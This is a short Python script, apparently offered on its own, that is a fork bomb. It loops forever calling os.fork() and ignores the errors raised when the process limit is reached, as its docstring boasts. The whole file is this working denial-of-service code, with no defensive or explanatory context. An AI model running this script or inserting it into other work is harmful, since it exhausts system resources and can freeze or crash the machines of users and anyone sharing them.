"""Forks for ever in all processes, whatever the kernel says."""

import os

while True:
    try:
        os.fork()
    except OSError:
        continue
